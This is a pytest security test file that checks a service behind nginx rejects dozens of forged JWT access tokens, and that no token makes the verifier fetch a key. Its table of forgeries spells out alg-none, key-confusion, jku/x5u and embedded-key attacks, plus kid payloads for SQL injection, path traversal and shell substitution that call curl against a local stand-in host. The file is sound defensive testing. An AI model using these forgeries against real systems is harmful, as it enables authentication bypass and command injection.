"""Forged access tokens through nginx: every one names a live session, every one is denied.

Each forgery carries the claims of a real, live session (so that only the forgery itself can
be the reason for a denial), is sent as the access cookie alone (no refresh cookie to fall
back on) and must get a 401 with no Set-Cookie. A local HTTP listener stands in for any key
URL a token points at (jku, x5u, a shell command in the kid): it must never be contacted.
"""

from __future__ import annotations

import datetime
import hashlib
import json
import secrets
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import jwt
import pytest
from attack_helpers import (
    OMIT,
    assert_denied,
    b64url,
    forge_claims,
    forge_header,
    fresh_user,
    genuine_token,
    hmac_token,
    segment,
)
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.x509.oid import NameOID
from e2e_helpers import SignedIn, cookie_header, get_page, sign_in
from jwt.algorithms import ECAlgorithm, OKPAlgorithm, RSAAlgorithm

if TYPE_CHECKING:
    from conftest import Stack


class KeyServer:
    """A JWKS endpoint on 127.0.0.1 that records every request it gets."""

    def __init__(self, jwks: dict[str, Any]) -> None:
        self.requests: list[str] = []
        body = json.dumps(jwks).encode()
        hits = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass  # silence: hits are recorded, not logged

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> KeyServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass(frozen=True)
class AttackerKeys:
    """Key pairs the attacker owns, and a self-signed certificate for the RSA one."""

    rsa: rsa.RSAPrivateKey
    ec: ec.EllipticCurvePrivateKey
    ed: ed25519.Ed25519PrivateKey
    certificate_der: bytes

    def rsa_public_pem(self) -> bytes:
        return self.rsa.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )

    def rsa_jwk(self) -> dict[str, Any]:
        jwk: dict[str, Any] = RSAAlgorithm.to_jwk(self.rsa.public_key(), as_dict=True)
        return jwk


def _attacker_keys() -> AttackerKeys:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "verifier")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(rsa_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(rsa_key, hashes.SHA256())
    )
    return AttackerKeys(
        rsa=rsa_key,
        ec=ec.generate_private_key(ec.SECP256R1()),
        ed=ed25519.Ed25519PrivateKey.generate(),
        certificate_der=certificate.public_bytes(serialization.Encoding.DER),
    )


@dataclass(frozen=True)
class Scene:
    """What a forgery is built from."""

    stack: Stack
    victim: SignedIn
    bystander: SignedIn
    keys: AttackerKeys
    key_url: str

    @property
    def secret(self) -> bytes:
        return self.stack.jwt_secret.encode()

    def header(self, **fields: Any) -> dict[str, Any]:
        return forge_header(self.stack, **fields)

    def claims(self, **claims: Any) -> dict[str, Any]:
        return forge_claims(self.victim.name, self.victim.session_id, **claims)

    def genuine(self) -> str:
        return genuine_token(self.stack, self.victim.name, self.victim.session_id)

    def asymmetric(self, algorithm: str, key: Any, **fields: Any) -> str:
        headers = {"typ": "at+jwt", "kid": self.stack.jwt_kid, **fields}
        return jwt.encode(self.claims(), key, algorithm=algorithm, headers=headers)


@pytest.fixture(scope="module")
def attacker_keys() -> AttackerKeys:
    return _attacker_keys()


@pytest.fixture(scope="module")
def key_server(attacker_keys: AttackerKeys) -> Iterator[KeyServer]:
    jwk = {**attacker_keys.rsa_jwk(), "kid": "e2e", "use": "sig", "alg": "RS256"}
    with KeyServer({"keys": [jwk]}) as server:
        yield server


@pytest.fixture(scope="module")
def scene(stack: Stack, attacker_keys: AttackerKeys, key_server: KeyServer) -> Scene:
    victim, bystander = fresh_user(stack, "victim"), fresh_user(stack, "bystander")
    return Scene(
        stack=stack,
        victim=sign_in(stack, *victim),
        bystander=sign_in(stack, *bystander),
        keys=attacker_keys,
        key_url=key_server.url,
    )


def _unsigned(scene: Scene, alg: str) -> str:
    return f"{segment(scene.header(alg=alg))}.{segment(scene.claims())}."


def _with_payload_of(token: str, claims: dict[str, Any]) -> str:
    header, _, signature = token.split(".")
    return f"{header}.{segment(claims)}.{signature}"


def _with_header_of(token: str, header: dict[str, Any]) -> str:
    _, payload, signature = token.split(".")
    return f"{segment(header)}.{payload}.{signature}"


Forgery = Callable[[Scene], str]

FORGERIES: dict[str, Forgery] = {
    # alg "none", in every capitalisation, with and without a signature left in place.
    "alg-none": lambda s: _unsigned(s, "none"),
    "alg-None": lambda s: _unsigned(s, "None"),
    "alg-NONE": lambda s: _unsigned(s, "NONE"),
    "alg-nOnE": lambda s: _unsigned(s, "nOnE"),
    "alg-none-keeping-the-signature": lambda s: _with_header_of(s.genuine(), s.header(alg="none")),
    "alg-missing": lambda s: hmac_token(s.header(alg=OMIT), s.claims(), s.secret),
    # Signatures: absent, cut short, or borrowed from another token.
    "empty-signature": lambda s: s.genuine().rsplit(".", 1)[0] + ".",
    "signature-missing-its-last-character": lambda s: s.genuine()[:-1],
    "signature-cut-in-half": lambda s: s.genuine()[:-22],
    "signature-of-zeros": lambda s: s.genuine().rsplit(".", 1)[0] + "." + b64url(bytes(32)),
    "payload-renamed-to-another-live-session": lambda s: _with_payload_of(
        s.genuine(), forge_claims(s.bystander.name, s.bystander.session_id)
    ),
    "payload-expiry-extended": lambda s: _with_payload_of(
        s.genuine(), s.claims(exp=s.claims()["exp"] + 86_400)
    ),
    "header-edited-to-carry-a-jku": lambda s: _with_header_of(
        s.genuine(), s.header(jku=s.key_url + "/edited.json")
    ),
    # Other HMAC keys and algorithms.
    "hs256-with-an-empty-key": lambda s: hmac_token(s.header(), s.claims(), b""),
    "hs256-with-a-foreign-secret": lambda s: hmac_token(
        s.header(), s.claims(), secrets.token_urlsafe(48).encode()
    ),
    "hs384-with-the-real-secret": lambda s: hmac_token(
        s.header(alg="HS384"), s.claims(), s.secret, hashlib.sha384
    ),
    "hs512-with-the-real-secret": lambda s: hmac_token(
        s.header(alg="HS512"), s.claims(), s.secret, hashlib.sha512
    ),
    "lower-case-hs256-with-the-real-secret": lambda s: hmac_token(
        s.header(alg="hs256"), s.claims(), s.secret
    ),
    # Key confusion: HS256 keyed with a public key, in the forms a confused verifier might use.
    "hs256-keyed-with-an-rsa-public-pem": lambda s: hmac_token(
        s.header(), s.claims(), s.keys.rsa_public_pem()
    ),
    "hs256-keyed-with-an-rsa-public-pkcs1-pem": lambda s: hmac_token(
        s.header(),
        s.claims(),
        s.keys.rsa.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
        ),
    ),
    "hs256-keyed-with-an-ec-public-pem": lambda s: hmac_token(
        s.header(),
        s.claims(),
        s.keys.ec.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
    ),
    "hs256-keyed-with-the-embedded-public-jwk": lambda s: hmac_token(
        s.header(jwk=s.keys.rsa_jwk()),
        s.claims(),
        json.dumps(s.keys.rsa_jwk(), separators=(",", ":")).encode(),
    ),
    # Real asymmetric signatures by a key the verifier never trusted.
    "rs256-by-the-attacker": lambda s: s.asymmetric("RS256", s.keys.rsa),
    "ps256-by-the-attacker": lambda s: s.asymmetric("PS256", s.keys.rsa),
    "es256-by-the-attacker": lambda s: s.asymmetric("ES256", s.keys.ec),
    "eddsa-by-the-attacker": lambda s: s.asymmetric("EdDSA", s.keys.ed),
    # The token brings its own key, or says where to fetch one.
    "embedded-rsa-jwk": lambda s: s.asymmetric("RS256", s.keys.rsa, jwk=s.keys.rsa_jwk()),
    "embedded-ec-jwk": lambda s: s.asymmetric(
        "ES256", s.keys.ec, jwk=ECAlgorithm.to_jwk(s.keys.ec.public_key(), as_dict=True)
    ),
    "embedded-okp-jwk": lambda s: s.asymmetric(
        "EdDSA", s.keys.ed, jwk=OKPAlgorithm.to_jwk(s.keys.ed.public_key(), as_dict=True)
    ),
    "embedded-oct-jwk": lambda s: hmac_token(
        s.header(jwk={"kty": "oct", "k": b64url(b"attacker-secret-" * 3)}),
        s.claims(),
        b"attacker-secret-" * 3,
    ),
    "embedded-x5c-certificate": lambda s: s.asymmetric(
        "RS256", s.keys.rsa, x5c=[b64url(s.keys.certificate_der)]
    ),
    "rs256-with-jku": lambda s: s.asymmetric("RS256", s.keys.rsa, jku=s.key_url + "/jwks.json"),
    "hs256-with-jku": lambda s: hmac_token(
        s.header(jku=s.key_url + "/hs.json"), s.claims(), b"attacker-secret"
    ),
    "rs256-with-x5u": lambda s: s.asymmetric("RS256", s.keys.rsa, x5u=s.key_url + "/cert.pem"),
    "rs256-with-jku-and-no-kid": lambda s: jwt.encode(
        s.claims(),
        s.keys.rsa,
        algorithm="RS256",
        headers={"typ": "at+jwt", "jku": s.key_url + "/nokid.json"},
    ),
    # kid: looked up, never interpreted. Each is signed with the key its attack would yield.
    "kid-traversal-to-dev-null": lambda s: hmac_token(
        s.header(kid="../../../../../../../../dev/null"), s.claims(), b""
    ),
    "kid-absolute-dev-null": lambda s: hmac_token(s.header(kid="/dev/null"), s.claims(), b""),
    "kid-traversal-back-to-the-real-kid": lambda s: hmac_token(
        s.header(kid=f"../{s.stack.jwt_kid}"), s.claims(), s.secret
    ),
    "kid-sql-union": lambda s: hmac_token(
        s.header(kid="x' UNION SELECT 'attacker-key' -- "), s.claims(), b"attacker-key"
    ),
    "kid-sql-or-true": lambda s: hmac_token(s.header(kid="' OR '1'='1"), s.claims(), s.secret),
    "kid-shell-substitution": lambda s: hmac_token(
        s.header(kid=f"$(curl -s {s.key_url}/shell)"), s.claims(), s.secret
    ),
    "kid-shell-backticks": lambda s: hmac_token(
        s.header(kid=f"`curl -s {s.key_url}/backticks`"), s.claims(), s.secret
    ),
    "kid-shell-separator": lambda s: hmac_token(
        s.header(kid=f"{s.stack.jwt_kid}; curl -s {s.key_url}/separator"), s.claims(), s.secret
    ),
    "kid-unknown": lambda s: hmac_token(s.header(kid="retired-2019"), s.claims(), s.secret),
    "kid-other-case": lambda s: hmac_token(
        s.header(kid=s.stack.jwt_kid.upper()), s.claims(), s.secret
    ),
    "kid-with-trailing-space": lambda s: hmac_token(
        s.header(kid=s.stack.jwt_kid + " "), s.claims(), s.secret
    ),
    "kid-with-nul": lambda s: hmac_token(
        s.header(kid=s.stack.jwt_kid + "\x00"), s.claims(), s.secret
    ),
    "kid-missing": lambda s: hmac_token(s.header(kid=OMIT), s.claims(), s.secret),
    "kid-null": lambda s: hmac_token(s.header(kid=None), s.claims(), s.secret),
    "kid-number": lambda s: hmac_token(s.header(kid=0), s.claims(), s.secret),
    "kid-list": lambda s: hmac_token(s.header(kid=[s.stack.jwt_kid]), s.claims(), s.secret),
    "kid-object": lambda s: hmac_token(
        s.header(kid={"kid": s.stack.jwt_kid}), s.claims(), s.secret
    ),
}


def test_control_a_genuine_token_for_the_same_session_is_accepted(scene: Scene) -> None:
    # The forgeries below differ from this token only in what they forge.
    response = get_page(scene.stack, cookie=cookie_header(scene.stack, access=scene.genuine()))

    assert response.status_code == 200
    assert response.json()["user"] == scene.victim.name


@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=FORGERIES.keys())
def test_forged_access_token_is_denied(
    scene: Scene, key_server: KeyServer, forgery: Forgery
) -> None:
    token = forgery(scene)

    response = get_page(scene.stack, cookie=cookie_header(scene.stack, access=token))

    assert_denied(response)
    assert key_server.requests == [], "the verifier fetched a key named by a token"
